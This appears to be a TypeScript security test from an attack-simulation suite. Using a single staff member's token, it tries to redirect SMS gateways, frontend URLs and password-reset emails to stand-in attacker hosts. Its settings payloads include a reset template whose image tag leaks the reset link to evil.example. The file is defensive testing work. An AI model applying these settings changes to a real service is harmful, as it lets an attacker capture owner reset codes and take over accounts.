import { setTimeout as pause } from 'node:timers/promises';
import { startProvider } from '../../test/support/provider.ts';
import { type Attack, unless } from '../attack.ts';
import { tokenOfStaff } from '../support/flows.ts';

/** What an attacker would change so that messages, or the links in them, come to them. */
const changes = (gateway: string): Readonly<Record<string, unknown>> => ({
  SMS_GATEWAYS: { evil: { klass: 'http', conf: { url: gateway, username: 'a', password: 'b', from: 'c' } } },
  SMS_GATEWAY: 'evil',
  STOREFRONT_URL: 'https://evil.example',
  FRONTEND_URLS: { evil: { url: 'https://evil.example' } },
  NO_REPLY_EMAIL: 'boss@evil.example',
  RESET_EMAIL_HTML_TEMPLATE: '<p>{{ reset_url }}</p><img src="https://evil.example/?{{ reset_url }}">',
});

export const staffTakeover: Attack = {
  name: 'staff-takeover',
  title:
    'With the token of one member of staff, have the boss’s code or link sent to a host of the attacker’s',
  gain: 'One leaked token of any member of staff becomes the owner’s account.',
  source: 'OWASP ASVS 5.0 §8.2.1, §8.4.2 and §2.3.5 (two people for high-value changes)',
  needs: 'service',
  async run(arena) {
    const { mailbox } = arena.service();
    const faults: string[] = [];
    const received: string[] = [];
    const evil = await startProvider((response, { body }) => {
      received.push(body);
      response.writeHead(201).end();
    });
    try {
      const boss = await tokenOfStaff(arena, 'owner');
      for (const role of ['support', 'manager', 'owner']) {
        const thief = await tokenOfStaff(arena, role);
        const headers = { authorization: `Token ${thief.token}` };
        for (const [name, value] of Object.entries(changes(evil.url))) {
          const reply = await arena
            .client()
            .send('PUT', `/admin/api/settings/${name}/`, { json: { value }, headers });
          if (reply.status === 401) throw new Error(`the token of a ${role} was refused`);
          if (reply.status === 200) faults.push(`a ${role} alone changed ${name}`);
          if (reply.status !== 202) continue;
          const { id } = reply.json<{ id: number }>();
          const path = `/admin/api/settings/${name}/proposals/${id}/confirm/`;
          const confirmed = await arena.client().post(path, {}, { headers });
          if (confirmed.status < 400) faults.push(`a ${role} confirmed their own change of ${name}`);
        }
      }
      for (const path of [
        '/users/otp-login/',
        '/users/password/reset-with-phone/',
        '/users/password/reset-with-sms-otp/',
      ])
        await arena.client().post(path, { phone: boss.phone });
      await arena.client().post('/users/password/reset/', { email: boss.email });
      const { raw, mail } = await mailbox.mailTo(boss.email);
      await pause(1000);
      if (received.length > 0) faults.push('the boss’s code went to the attacker’s gateway');
      if (/evil\.example/.test(raw + (mail.html ?? ''))) faults.push('the boss’s link leads to the attacker');
      if (mailbox.texts.some(({ to }) => to === boss.phone)) faults.push('staff can reset or sign in by SMS');
    } finally {
      await evil.close();
    }
    return unless(
      faults,
      'no single member of staff changed where messages go, and staff get no codes by SMS',
    );
  },
};
